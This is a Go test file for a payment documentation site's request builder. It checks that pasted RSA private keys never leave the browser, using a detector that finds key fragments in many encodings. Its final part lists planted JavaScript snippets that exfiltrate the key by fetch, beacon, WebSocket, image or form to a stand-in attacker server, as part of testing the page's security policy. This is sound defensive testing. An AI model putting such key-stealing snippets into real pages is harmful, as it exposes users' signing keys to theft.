package journeys

import (
	"bytes"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"payout/sign"
)

// A hound finds pieces of a private key in what was sent, however it is written:
// as bytes, hex, decimal, base64 at any alignment, base64url, percent-encoded, or
// as a piece of its PEM, wrapped in base64 or hex once more.
type hound struct {
	windows map[string]bool // pieces of windowSize characters, in lower case for hex
	numbers []string        // decimal
	clean   map[string]bool // texts that have been looked at, and have none
}

const (
	pieceBytes = 12 // of the key: 96 bits are found nowhere by chance
	windowSize = 16 // characters of base64 that they make
)

func newHound(t *testing.T, keys ...*rsa.PrivateKey) *hound {
	t.Helper()
	h := &hound{windows: make(map[string]bool), clean: make(map[string]bool)}
	for _, key := range keys {
		key.Precompute()
		secret := secretPart(t, key)
		h.smell(secret)
		for _, kind := range []string{pkcs1(key), pkcs8(t, key)} {
			block, _ := pem.Decode([]byte(kind))
			at := bytes.Index(block.Bytes, secret)
			if at < 0 {
				t.Fatal("the secret part is not in the key")
			}
			lines := strings.Split(strings.TrimSpace(kind), "\n")
			body := strings.Join(lines[1:len(lines)-1], "\n")
			h.smell([]byte(body[at*4/3*65/64+8:])) // the text from the secret part on
		}
		for _, n := range []fmt.Stringer{key.D, key.Primes[0], key.Primes[1], key.Precomputed.Dp, key.Precomputed.Dq, key.Precomputed.Qinv} {
			text := n.String()
			for i := 0; i+40 <= len(text); i += 20 {
				h.numbers = append(h.numbers, text[i:i+40])
			}
		}
	}
	return h
}

// secretPart is what of a key's DER is not public: all from the private exponent on.
func secretPart(t *testing.T, key *rsa.PrivateKey) []byte {
	t.Helper()
	der, d := x509.MarshalPKCS1PrivateKey(key), key.D.Bytes()
	at := bytes.Index(der, d)
	if at < 0 {
		t.Fatal("the private exponent is not in the DER")
	}
	return der[at:]
}

// smell remembers every piece of a secret.
func (h *hound) smell(secret []byte) {
	for i := 0; i+pieceBytes <= len(secret); i++ {
		piece := secret[i : i+pieceBytes]
		h.windows[base64.StdEncoding.EncodeToString(piece)] = true
		h.windows[hex.EncodeToString(piece)[:windowSize]] = true
	}
	for i := 0; i+windowSize <= len(secret); i++ {
		h.windows[string(secret[i:i+windowSize])] = true
	}
}

// finds returns the first piece of a key in a text, or "".
func (h *hound) finds(text string) string {
	for _, form := range written(text) {
		for i := 0; i+windowSize <= len(form); i++ {
			if piece := form[i : i+windowSize]; h.windows[piece] {
				return fmt.Sprintf("%q", piece)
			}
		}
		for _, number := range h.numbers {
			if strings.Contains(form, number) {
				return number
			}
		}
	}
	return ""
}

// findsAny returns the first text that has a piece of a key.
func (h *hound) findsAny(texts []string) string {
	for _, text := range texts {
		if h.clean[text] {
			continue
		}
		if h.finds(text) != "" {
			return text
		}
		h.clean[text] = true
	}
	return ""
}

// written gives the ways to read what was sent.
func written(text string) []string {
	forms := []string{text}
	add := func(form string) { forms = append(forms, form) }
	for range 2 {
		last := forms[len(forms)-1]
		if decoded, err := url.PathUnescape(last); err == nil {
			add(decoded)
		} else {
			add(percentDecoded(last))
		}
	}
	for _, form := range append([]string(nil), forms...) {
		add(strings.NewReplacer("-", "+", "_", "/", " ", "+").Replace(form))
		add(strings.NewReplacer("-", "", ":", "", ",", "", " ", "", "\n", "", `\n`, "", "\r", "").Replace(strings.ToLower(form)))
		add(strings.NewReplacer("\n", "", `\n`, "", "\r", "", `\r`, "", `\/`, "/", " ", "").Replace(form))
	}
	return forms
}

// percentDecoded decodes what can be decoded, and leaves the rest.
func percentDecoded(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) {
			if raw, err := hex.DecodeString(s[i+1 : i+3]); err == nil {
				b.Write(raw)
				i += 2
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// TestHoundFindsAPrivateKeyHoweverItIsWritten, and nothing in a public one.
func TestHoundFindsAPrivateKeyHoweverItIsWritten(t *testing.T) {
	key := testKey()
	h := newHound(t, key)
	der, text := x509.MarshalPKCS1PrivateKey(key), pkcs8(t, key)
	block, _ := pem.Decode([]byte(text))
	middle := secretPart(t, key)[40:80]
	for what, leak := range map[string]string{
		"PEM": text, "PKCS#1": pkcs1(key), "DER": string(der), "hex": hex.EncodeToString(der), "HEX": strings.ToUpper(hex.EncodeToString(block.Bytes)),
		"base64url": base64.RawURLEncoding.EncodeToString(block.Bytes), "query": "/?x=" + url.QueryEscape(text), "path": url.PathEscape(pkcs1(key)),
		"twice": url.QueryEscape(url.QueryEscape(text)), "JSON": fmt.Sprintf("%q", text), "base64 of PEM": base64.StdEncoding.EncodeToString([]byte(text)),
		"a piece": base64.StdEncoding.EncodeToString(middle), "a piece in hex": hex.EncodeToString(middle[:14]), "hex of PEM": hex.EncodeToString([]byte(text)),
		"JWK": `{"d":"` + base64.RawURLEncoding.EncodeToString(key.D.Bytes()) + `"}`, "decimal": key.D.String(), "a prime": key.Primes[1].String(),
		"hex with colons": strings.ReplaceAll(fmt.Sprintf("% x", middle), " ", ":"), "one line": strings.ReplaceAll(text, "\n", ""),
		"a line of PEM": strings.Split(text, "\n")[12]} {
		if h.finds("POST / HTTP/1.1\r\n\r\na=b&"+leak+"&c") == "" {
			t.Errorf("it does not find %s", what)
		}
	}
	public, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
	check(t, err)
	for what, fine := range map[string]string{"public key": pemOfPublic(t, &key.PublicKey), "in hex": hex.EncodeToString(public),
		"in base64url": base64.RawURLEncoding.EncodeToString(public), "modulus": key.N.String(), "fingerprint": sign.Fingerprint(&key.PublicKey),
		"another key": pkcs8(t, bigKey())} {
		if found := h.finds(fine); found != "" {
			t.Errorf("it takes %s for the private key: %s", what, found)
		}
	}
}

// A wire is everything that a browser says about its requests: what the
// DevTools protocol tells before they are sent, also those that the page's policy
// stops, and what arrives at the proxy.
type wire struct {
	mutex  sync.Mutex
	events []string
}

func (w *wire) add(text string) {
	w.mutex.Lock()
	defer w.mutex.Unlock()
	w.events = append(w.events, text)
}

// tap listens to a tab.
func (w *wire) tap(b tab) {
	b.t.Helper()
	check(b.t, chromedp.Listen(b.ctx, func(ev any) {
		kind := fmt.Sprintf("%T", ev)
		if !strings.Contains(kind, "network.EventRequest") && !strings.Contains(kind, "network.EventWeb") && !strings.Contains(kind, "network.EventDirect") &&
			!strings.Contains(kind, "avigat") && !strings.Contains(kind, "target.EventTarget") {
			return
		}
		text, err := json.Marshal(ev)
		if err != nil {
			text = []byte(fmt.Sprint(ev))
		}
		w.add(kind + " " + string(text))
		if request, ok := ev.(*network.EventRequestWillBeSent); ok {
			for _, entry := range request.Request.PostDataEntries {
				w.add("body " + string(entry.Bytes))
			}
		}
	}))
	most := int64(1 << 20)
	_, err := chromedp.Call(b.ctx, network.Enable, network.EnableParams{MaxPostDataSize: &most})
	check(b.t, err)
}

// all is what the tabs told and what arrived.
func (w *wire) all(d *desk) []string {
	w.mutex.Lock()
	defer w.mutex.Unlock()
	return append(append([]string(nil), w.events...), d.requests()...)
}

// useInEveryWay does with the builder whatever can be done with it.
func (d *desk) useInEveryWay(b tab, w *wire) {
	var none any
	click := func(id string) {
		b.t.Helper()
		b.do(chromedp.Click(css("#" + id)))
		b.settled()
	}
	choose := func(command string) {
		b.do(chromedp.SetValue(css("#command"), "/docs/en/builder/"+command))
		b.until("the command is shown", `document.getElementById("command-part").dataset.title === "`+strings.ReplaceAll(command, "-", "/")+`"`)
		b.settled()
	}
	d.builder(b, "v4-payout")
	for _, key := range []string{pkcs1(testKey()), pkcs8(b.t, bigKey()), pkcs1(bigKey()), pkcs8(b.t, testKey())} {
		b.pasteKey(key)
	}
	click("send")
	b.replied()
	click("keep")
	click("send") // the same nonce: denied
	b.until("it is denied", `document.querySelector("#to-checker") !== null`)
	opened := chromedp.WaitNewTarget(b.ctx, func(info *target.Info) bool { return strings.Contains(info.URL, "/checker") })
	click("to-checker")
	d.lookAtChecker(b, <-opened, w)
	click("keep")
	b.do(chromedp.SendKeys(css("#search"), "nonce"))
	b.until("the search finds something", `document.querySelector("#found .found") !== null`)
	b.set(map[string]string{"search": ""}) // what it found lies over the button
	b.set(map[string]string{"login": "nobody", "f-order_desc": "Тест", "url": "https://elsewhere.example/paynet/api/v4/payout/1"})
	b.set(map[string]string{"url": d.origin + "/paynet/api/v4/payout/39915"})
	b.settled()
	click("send") // an unknown login: denied
	b.until("it is denied", `document.querySelector("#to-checker") !== null`)
	choose("v4-status")
	choose("v2-status")
	click("show-key")
	click("send")
	b.run(`(history.back(), null)`, nil, &none)
	b.until("it goes back", `document.getElementById("command-part").dataset.title === "v4/status"`)
	b.settled()
	b.do(chromedp.SetValue(css("#accept"), "application/vnd.pay+json"))
	click("send")
	b.replied()
	file := filepath.Join(b.t.TempDir(), "merchant.key")
	check(b.t, os.WriteFile(file, []byte(pkcs1(bigKey())), 0o600))
	click("key-forget")
	b.do(chromedp.SetUploadFiles(css("#private-key-file"), []string{file}))
	b.until("the file is read", `document.getElementById("private-key-state").textContent.includes("4096")`)
	click("key-copy")
	for _, id := range []string{"nonce-new", "timestamp-new", "example", "clear", "example"} {
		click(id)
	}
	b.set(map[string]string{"private-key": strings.Replace(pkcs8(b.t, testKey()), "M", "*", 3)}) // damaged
	b.set(map[string]string{"login": pkcs8(b.t, testKey())[:20]})
	b.pasteKey(pkcs8(b.t, testKey()))
}

// lookAtChecker reads what the checker got, and closes it.
func (d *desk) lookAtChecker(b tab, id target.ID, w *wire) {
	b.t.Helper()
	ctx, cancel := chromedp.NewContext(b.ctx, chromedp.WithTargetID(id))
	defer cancel()
	checker := tab{b.t, ctx}
	checker.until("the checker has a verdict", `document.querySelector("#verdict .note") !== null`)
	w.tap(checker)
	if text := checker.text(); !strings.Contains(text, "The signature is right") {
		b.t.Errorf("the checker says\n%s", text)
	}
	address, err := chromedp.Run(checker.ctx, chromedp.Location())
	if check(b.t, err); address != d.origin+"/docs/en/checker" {
		b.t.Errorf("the checker is at %s", address)
	}
}

// leave reloads the page, goes away and comes back: no key must be left anywhere.
func (d *desk) leave(b tab, h *hound) {
	b.t.Helper()
	const kept = `(async () => {
		const databases = (await indexedDB.databases()).map(d => d.name), caches = await self.caches.keys();
		return JSON.stringify([{...localStorage}, {...sessionStorage}, databases, caches, document.cookie, history.state, location.href, document.referrer, name]);
	})()`
	var state, field string
	b.run(kept, nil, &state)
	if h.finds(state) != "" || strings.Contains(state, "PRIVATE") {
		b.t.Errorf("the browser keeps %s", state)
	}
	if !strings.Contains(state, "[],[]") {
		b.t.Errorf("there are databases or caches: %s", state)
	}
	b.do(chromedp.Reload())
	b.settled()
	for _, how := range []string{"reload", "leave and come back"} {
		b.run(`document.getElementById("private-key").value`, nil, &field)
		if field != "" {
			b.t.Errorf("after %s the field has a key", how)
		}
		b.pasteKey(pkcs8(b.t, testKey()))
		b.do(chromedp.Navigate(d.origin + "/docs/en/checker"))
		var none any
		b.run(`(history.back(), null)`, nil, &none)
		b.until("the builder is back", `document.getElementById("private-key") !== null`)
		b.settled()
	}
	b.run(`document.getElementById("private-key").value`, nil, &field)
	if field != "" {
		b.t.Error("whoever comes back finds the key")
	}
}

func TestPrivateKeyNeverLeavesTheBrowser(t *testing.T) {
	h := newHound(t, testKey(), bigKey())
	d, b, w := newDesk(t, nil), newTab(t), &wire{}
	w.tap(b)
	d.useInEveryWay(b, w)
	d.leave(b, h)
	made := d.signUpInPage(b)
	h2 := newHound(t, made)
	all := w.all(d)
	posts := 0
	for _, text := range all {
		for _, hound := range []*hound{h, h2} {
			if found := hound.finds(text); found != "" {
				t.Errorf("%s is in %.300s", found, text)
			}
		}
		if strings.HasPrefix(text, "POST /paynet/api/") || strings.HasPrefix(text, "POST /docs/sandbox/") {
			posts++
		}
	}
	t.Logf("%d events and requests, %d of them POSTs that arrived", len(all), posts)
	if posts < 6 {
		t.Errorf("only %d requests were sent: the page was not used", posts)
	}
}

// signUpInPage makes a sandbox key in the page and returns it.
func (d *desk) signUpInPage(b tab) *rsa.PrivateKey {
	b.t.Helper()
	d.builder(b, "v4-payout")
	b.do(chromedp.Click(css("#generate")))
	b.until("the key is made", `document.getElementById("private-key-state").classList.contains("good")`)
	b.settled()
	b.do(chromedp.Click(css("#send")))
	b.replied()
	var text string
	b.run(`document.getElementById("private-key").value`, nil, &text)
	key, err := sign.ParsePrivateKey([]byte(text))
	check(b.t, err)
	b.do(chromedp.Click(css("#key-copy")))
	return key
}

// Leaks that are planted into a copy of the script. Those that go to the gateway
// itself, as its requests do, are found by the hound; the page's policy stops the
// others. EVIL is another site.
var leaks = []struct {
	name, script string
	stopped      bool
}{
	{"header of the request", `const f = fetch; self.fetch = (u, o) => f(u, {...o, headers: {...o?.headers, "X-Key": btoa(KEY)}});`, false},
	{"body of the request", `const f = fetch; self.fetch = (u, o) => f(u, o?.body ? {...o, body: o.body + "&k=" + encodeURIComponent(KEY)} : o);`, false},
	{"query of the API", `fetch("/paynet/api/v4/payout/1?k=" + btoa(KEY).replaceAll("+", "-").replaceAll("/", "_"))`, false},
	{"beacon to the API", `navigator.sendBeacon("/paynet/api/v4/payout/1", new Blob([KEY]))`, false},
	{"image of ours", `new Image().src = "/docs/none.svg?" + encodeURIComponent(KEY)`, false},
	{"address", `history.replaceState(null, "", "?k=" + encodeURIComponent(KEY))`, false},
	{"fragment", `location.hash = Array.from(KEY, c => c.charCodeAt(0).toString(16)).join("")`, false},
	{"fetch elsewhere", `fetch("EVIL", {method: "POST", mode: "no-cors", body: KEY})`, true},
	{"beacon elsewhere", `navigator.sendBeacon("EVIL", KEY)`, true},
	{"web socket", `new WebSocket("EVIL".replace("http", "ws") + btoa(KEY).slice(1000, 1100))`, true},
	{"image elsewhere", `new Image().src = "EVIL?" + encodeURIComponent(KEY)`, true},
	{"form", `const f = document.createElement("form"); f.action = "/docs/"; f.method = "post"; f.innerHTML = "<input name=k>"; f.k.value = KEY; document.body.append(f); f.submit()`, true},
	{"other doors of ours", `fetch("/docs/en/guides/x", {method: "POST", body: KEY})`, true},
}

// leakInto uses a page whose script leaks, with its policy or without, and returns
// what the browser told, and what arrived anywhere.
func leakInto(t *testing.T, script string, policy bool, until func(b tab, told, arrived func() []string)) {
	t.Helper()
	var mutex sync.Mutex
	var elsewhere []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text, _ := httputil.DumpRequest(r, true)
		mutex.Lock()
		defer mutex.Unlock()
		elsewhere = append(elsewhere, string(text))
	}))
	t.Cleanup(evil.Close)
	script = strings.NewReplacer("KEY", `at("private-key").value`, "EVIL", evil.URL+"/").Replace(script)
	d := newDesk(t, func(path string, header http.Header, content []byte) []byte {
		if !policy {
			header.Del("Content-Security-Policy")
		}
		if strings.HasSuffix(path, "/builder.js") {
			return append(content, "\nat(\"private-key\").addEventListener(\"input\", () => { if (at(\"private-key\").value) { "+script+" } });\n"...)
		}
		return content
	})
	b, w := newTab(t), &wire{}
	w.tap(b)
	d.builder(b, "v4-payout")
	b.set(map[string]string{"private-key": pkcs8(t, testKey())})
	until(b, func() []string { return w.all(d) }, func() []string {
		mutex.Lock()
		defer mutex.Unlock()
		return append(d.requests(), elsewhere...)
	})
}

func TestPlantedLeaksAreStoppedOrFound(t *testing.T) {
	h := newHound(t, testKey())
	found := func(b tab, texts func() []string) {
		b.t.Helper()
		for h.findsAny(texts()) == "" {
			if b.ctx.Err() != nil {
				b.t.Fatal("the leak is not found")
			}
			_, _ = chromedp.Run(b.ctx, chromedp.Location()) // a moment
		}
	}
	used := func(b tab) {
		b.t.Helper()
		b.until("the key is read", `document.getElementById("private-key-state").classList.contains("good")`)
		b.settled()
		b.do(chromedp.Click(css("#send")))
		b.until("there is a reply", `document.querySelector("#reply > .reply-fields, #reply > .note") !== null`)
	}
	for _, leak := range leaks {
		t.Run(leak.name, func(t *testing.T) {
			if !leak.stopped {
				leakInto(t, leak.script, true, func(b tab, told, _ func() []string) {
					used(b)
					found(b, told)
				})
				return
			}
			leakInto(t, leak.script, true, func(b tab, _, arrived func() []string) {
				used(b) // a later request has come and gone
				if text := h.findsAny(arrived()); text != "" {
					t.Errorf("the policy lets it through: %.200s", text)
				}
			})
			leakInto(t, leak.script, false, func(b tab, _, arrived func() []string) {
				found(b, arrived) // it is the policy that stops it
			})
		})
	}
}
